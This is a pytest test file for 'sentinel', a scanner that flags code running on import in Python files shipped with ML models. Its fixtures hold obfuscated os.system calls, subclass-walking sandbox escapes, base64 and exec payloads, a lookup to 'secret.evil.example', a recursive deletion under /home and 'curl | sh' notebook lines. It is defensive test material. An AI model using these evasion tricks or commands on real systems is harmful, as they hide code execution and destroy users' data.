"""Python source beside a model: what is read of it, when it is one, and what stays quiet."""

from __future__ import annotations

import json
import sys
import textwrap
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sentinel import Report, Severity, Verdict, scan, scan_bytes
from sentinel.artifacts import Artifact
from sentinel.errors import SentinelError
from sentinel.formats.model_source import Act, ModelSource, parse
from sentinel.limits import Budget
from sentinel.readers import MemoryReader

RUN = "import os\nos.system('echo')\n"


def read(text: str) -> ModelSource:
    data = textwrap.dedent(text).encode()
    model = parse(Artifact("a.py", MemoryReader(data)), Budget()).model
    assert isinstance(model, ModelSource)
    return model


def act(text: str, path: str) -> Act:
    return next(one for one in read(text).acts if one.path == path)


def ids(report: Report) -> set[str]:
    return {finding.rule_id for finding in report.findings}


@pytest.mark.parametrize(
    "text",
    [
        "import os\nos.system('x')",
        "from os import *\nsystem('x')",
        "import os\nos.system.__call__('x')",
        "import os\n[os.system][0]('x')",
        "import os\n(os and os.system)('x')",
        "import os\nfor f in [os.system]:\n    f('x')",
        "import os\ngetattr(os, ''.join(['sys', 'tem']))('x')",
        "import os\ndef f(x: os.system('x')): pass",
        "import os\ndef f(*x, y: os.system('x') = 1): pass",
        "import os\ndef f() -> os.system('x'): pass",
        "import os\nclass A:\n    def __class_getitem__(c, i): os.system('x')\nA[1]",
        "import os\ngetattr(os, 'sXstem'.replace('X', 'y'))('x')",
        "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('x')",
        "import os\ngetattr(os, ''.join(chr(x ^ 1) for x in [114, 120, 114, 117, 100, 108]))('x')",
        "import os, operator\noperator.attrgetter('system')(os)('x')",
        "import os, operator\noperator.methodcaller('system', 'x')(os)",
        "import os\nos.__getattribute__('system')('x')",
        "().__class__.__base__.__subclasses__()[9].__init__.__globals__['system']('x')",
        "import os\n@(lambda f: os.system('x'))\ndef g(): pass",
        "n = bytes.fromhex('6f73').decode()\n__import__(n).system('x')",
        "import os, atexit\natexit.register(os.system, 'x')",
        "import os\nclass A:\n    def go(self):\n        os.system('x')\nA().go()",
        "import os\nclass A:\n    def go(self):\n        os.system('x')\nclass B(A): pass\n"
        "B().go()",
        "import os\nclass A:\n    @property\n    def p(self):\n        os.system('x')\nA().p",
        "import os\nclass A:\n    def __del__(self):\n        os.system('x')\nA()",
        "import os\nclass M(type):\n    def __new__(c, *a):\n        os.system('x')\n"
        "class B(metaclass=M): pass",
        "import os\nclass A:\n    def __init_subclass__(c):\n        os.system('x')\n"
        "class B(A): pass",
    ],
)
def test_what_importing_gets_to(text: str) -> None:
    assert act(text, "os.system").when == "import"


def test_a_method_of_no_object_is_not_reached_on_import() -> None:
    text = "import os\nclass A:\n    def go(self):\n        os.system('x')\nother.go()\n"
    assert act(text, "os.system").when == "call"


@pytest.mark.parametrize("name", ["forward", "handle", "__reduce__", "predict", "__init__"])
def test_methods_that_loaders_call_are_of_use(name: str) -> None:
    text = f"import os\nclass A:\n    def {name}(self, *a):\n        os.system('x')\n"
    assert act(text, "os.system").when == "use"


@pytest.mark.parametrize(
    ("text", "given"),
    [
        ("import base64\nd = base64.b64decode(B)\nexec(d)", {"decoded"}),
        ("import base64\ndef f(x):\n    return base64.b64decode(x)\nexec(f(B))", {"decoded"}),
        ("import requests\nr = requests.get('x')\nexec(r.text)", {"fetched"}),
        ("exec(open('x').read())", {"read"}),
        ("exec(other)", {"computed"}),
        ("exec('x = 1')", set()),
    ],
)
def test_what_is_given_to_exec(text: str, given: set[str]) -> None:
    assert act(text, "builtins.exec").given == given


def test_constants_given_to_exec_are_read_themselves() -> None:
    report = scan_bytes(b"exec('import os; os.' + 'system(1)')", "a.py")
    assert "line 1" in {finding.location.member for finding in report.findings}


def test_nested_layers_are_unpacked_to_the_end() -> None:
    text = "import os; os.system('echo')"
    for _ in range(4):
        text = f"exec({text!r}[::-1][::-1])"
    report = scan_bytes(text.encode(), "a.py")
    assert any("os.system" in finding.evidence for finding in report.findings)


@pytest.mark.parametrize(
    "names",
    [
        ("config.json",), ("MLmodel",), ("model.safetensors",), ("pytorch_model.bin",),
        ("hubconf.py",), ("model_index.json",), ("tokenizer_config.json",), ("x.gguf",),
    ],
)  # fmt: skip
def test_a_neighbour_makes_a_source_part_of_a_model(tmp_path: Path, names: tuple[str, ...]) -> None:
    for name in names:
        (tmp_path / name).write_text("{}")
    (tmp_path / "code.py").write_text(RUN)
    report = next(one for one in scan(tmp_path) if one.artifact.endswith("code.py"))
    assert "SNT1370" in ids(report)


def test_a_source_below_a_bundle_is_part_of_it(tmp_path: Path) -> None:
    folder = tmp_path / "code" / "package"
    folder.mkdir(parents=True)
    (tmp_path / "MLmodel").write_text("flavors:\n  python_function:\n    code: code\n")
    (folder / "mine.py").write_text(RUN)
    assert "SNT1370" in {name for report in scan(tmp_path) for name in ids(report)}


@pytest.mark.parametrize(
    ("names", "place", "found"),
    [
        (("config.json", "model.safetensors"), "a/b", True),
        (("config.json", "model.safetensors"), "a/b/c", False),
        (("model.safetensors",), "code", True),
        (("model.safetensors",), "a/b", False),
        (("model.safetensors", "pyproject.toml"), "code", False),
        (("config.json",), "code", False),
        (("config.json", "model.safetensors", "setup.py"), "tests", False),
    ],
)
def test_sources_in_folders_below_weights(
    tmp_path: Path, names: tuple[str, ...], place: str, found: bool
) -> None:
    folder = tmp_path / "model" / place
    folder.mkdir(parents=True)
    for name in names:
        (tmp_path / "model" / name).write_bytes(b"{}")
    (folder / "x.py").write_text("import os\nos.system('echo')")
    assert ("SNT1370" in {name for report in scan(tmp_path) for name in ids(report)}) is found


def test_a_source_among_sources_is_none_of_ours(tmp_path: Path) -> None:
    (tmp_path / "code.py").write_text(RUN)
    (tmp_path / "README.md").write_text("x")
    assert scan(tmp_path) == []


def test_a_source_that_runs_hidden_code_is_found_anywhere(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n")
    (report,) = scan(tmp_path)
    assert ids(report) >= {"SNT1371"}


def test_weights_among_many_sources_make_no_model_of_them(tmp_path: Path) -> None:
    for number in range(30):
        (tmp_path / f"code{number}.py").write_text(RUN)
    (tmp_path / "weights.pkl").write_bytes(b"\x80\x04N.")
    assert [Path(report.artifact).name for report in scan(tmp_path)] == ["weights.pkl"]


def test_a_source_that_the_user_named_is_read(tmp_path: Path) -> None:
    path = tmp_path / "code.py"
    path.write_text(RUN)
    assert "SNT1370" in ids(scan(path)[0])


@pytest.mark.parametrize("name", ["modeling_x.py", "handler.py", "hubconf.py"])
def test_names_of_model_sources_count_alone(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text(RUN)
    assert "SNT1370" in {found for report in scan(tmp_path) for found in ids(report)}


def test_every_function_of_a_hubconf_is_of_use() -> None:
    text = b"import os\ndef model(pretrained=False):\n    os.system('x')\n"
    assert "SNT1372" in ids(scan_bytes(text, "hubconf.py"))
    assert scan_bytes(text, "modeling_x.py").findings == ()


def test_what_stands_behind_the_guard_of_a_script_is_not_imported() -> None:
    text = "import os\nif __name__ == '__main__':\n    os.system('x')\n"
    assert act(text, "os.system").when == "use"
    assert act(text.replace("==", "!="), "os.system").when == "import"
    assert act(text + "else:\n    os.popen('x')", "os.popen").when == "import"
    assert "SNT1370" in ids(scan_bytes(text.encode(), "setup.py"))


def test_a_version_file_that_setup_runs_is_ordinary() -> None:
    text = b"from setuptools import setup\nexec(open('version.py').read())\nsetup(name='x')"
    assert scan_bytes(text, "setup.py").findings == ()


@pytest.mark.parametrize(
    "package", ["transformers/models/llama", "transformers/models/bert", "sentence_transformers"]
)
def test_the_sources_of_libraries_stay_quiet(package: str) -> None:
    pytest.importorskip(package.partition("/")[0])
    root = next(Path(path) for path in sys.path if (Path(path) / package).is_dir())
    sources = [path for path in sorted((root / package).glob("*.py")) if path.stat().st_size]
    assert sources
    for path in sources:
        worst = [one for one in scan_bytes(path.read_bytes(), path.name).findings
                 if one.severity >= Severity.MEDIUM]  # fmt: skip
        assert worst == [], path


def test_old_python_is_said_not_to_be_read() -> None:
    report = scan_bytes(b"print 'x'\n", "modeling_x.py")
    assert report.verdict is Verdict.INCOMPLETE


@pytest.mark.parametrize(
    "text",
    [
        "x = x\nexec(x)",
        "f = getattr(f, f)\nexec(f)",
        "a = b\nb = a\nexec(a + b)",
        "import base64\nx = base64.b64decode(x)\nexec(x)",
        "exec('a' * 10 ** 9)",
        "exec('ab' * 2097152 * 9)",
        "exec(" + "(" * 60 + "'x'" + ")" * 60 + ")",
        "exec(" + " + ".join(["'a'"] * 900) + ")",
        "import zlib\nexec(zlib.decompress(b'no'))",
        "exec(''.join(map(chr, [99999999999, -1])))",
        "exec('%s' % 1)",
        "class A(A):\n    def go(self): A().go()\nA().go()",
    ],
)
def test_sources_that_lead_nowhere_end(text: str) -> None:
    report = scan_bytes(text.encode(), "a.py")
    assert not any(gap.reason == "internal" for gap in report.coverage.gaps)


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=200))
def test_any_bytes_give_a_model_or_an_error_of_ours(data: bytes) -> None:
    try:
        parse(Artifact("a.py", MemoryReader(data)), Budget())
    except SentinelError:
        pass


SNIPPETS = st.sampled_from(
    ["exec(", "x", "'ab'", "+", ")", "\n", "import os\n", "os.system", "(", "[::-1]", "def f():\n ",
     "class A:\n ", "chr(1)", "''.join", "[", "]", ",", "getattr", "=", "lambda: ", "b'q'"]
)  # fmt: skip


@settings(max_examples=100, deadline=None)
@given(st.lists(SNIPPETS, max_size=25).map("".join))
def test_any_words_of_python_do_too(text: str) -> None:
    report = scan_bytes((text or " ").encode(), "a.py")
    assert not any(gap.reason == "internal" for gap in report.coverage.gaps)


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        (
            "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('x')",
            "class A: pass\nTABLE = {c.__name__: c for c in A.__subclasses__()}",
        ),
        (
            "import ctypes\nctypes.CDLL(None).system(b'x')",
            "import ctypes\nctypes.CDLL('libc.so.6')",
        ),
        (
            "import socket\nsocket.gethostbyname('secret.evil.example')",
            "import socket\nsocket.gethostbyname(socket.gethostname())",
        ),
        (
            "import os\nfor r, _, f in os.walk('/home'):\n    for x in f: os.remove(r + x)",
            "import os\nfor x in os.listdir('cache'): os.remove(x)",
        ),
        (
            "import types, marshal, base64\n"
            "types.FunctionType(marshal.loads(base64.b64decode('YWJj')), {})()",
            "import types\nTABLE.add_representer(types.FunctionType, describe)",
        ),
        (
            "import timeit\ntimeit.timeit('import os; os.system(\"x\")')",
            "import timeit\ntimeit.timeit('sum(range(9))')",
        ),
    ],
)
def test_what_acts_on_import_and_its_plain_neighbour(text: str, plain: str) -> None:
    def worst(source: str) -> Severity:
        found = scan_bytes(source.encode(), "modeling_x.py").findings
        return max((one.severity for one in found), default=Severity.INFO)

    assert worst(text) >= Severity.HIGH
    assert worst(plain) <= Severity.LOW


def test_the_generation_of_a_models_own_is_read(tmp_path: Path) -> None:
    folder = tmp_path / "custom_generate"
    folder.mkdir()
    (folder / "generate.py").write_text(RUN)
    assert "SNT1370" in {found for report in scan(tmp_path) for found in ids(report)}


@pytest.mark.parametrize(
    ("line", "worst"),
    [
        (b"import os; os.system('x')", Severity.HIGH),
        (b"import base64; exec(base64.b64decode('cHJpbnQoMSk='))", Severity.CRITICAL),
        (b"import _virtualenv", Severity.INFO),
        (b"import os; var = 'A'; os.environ.get(var) and __import__('_hack').add();", Severity.LOW),
    ],
)
def test_lines_of_a_path_file_run_when_python_starts(line: bytes, worst: Severity) -> None:
    report = scan_bytes(b"./lib\n/usr/lib/x y\n" + line + b"\n", "x.pth")
    found = max((one.severity for one in report.findings), default=Severity.INFO)
    assert found >= worst if worst >= Severity.HIGH else found <= worst
    assert not report.coverage.gaps


def test_a_cell_has_its_shell_at_hand() -> None:
    assert act("get_ipython().system('x')", "IPython.get_ipython.system").when == "import"


def test_notebooks_fetch_and_install_as_their_readers_expect() -> None:
    def worst(*lines: str) -> Severity:
        cell = {"cell_type": "code", "metadata": {}, "outputs": [], "source": "\n".join(lines)}
        whole = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
        found = scan_bytes(json.dumps(whole).encode(), "a.ipynb").findings
        return max((one.severity for one in found), default=Severity.INFO)

    assert worst("import requests", "r = requests.get('https://x.invalid/a.json')") <= Severity.LOW
    assert worst("get_ipython().system('pip install y')") <= Severity.LOW
    assert worst("import os", "os.system('pip install -q y')") <= Severity.LOW
    assert worst("import os", "os.system('curl x.invalid | sh')") >= Severity.HIGH
    assert worst("get_ipython().system('curl x.invalid | sh')") >= Severity.HIGH
    assert worst("import requests", "exec(requests.get('https://x.invalid').text)") >= Severity.HIGH
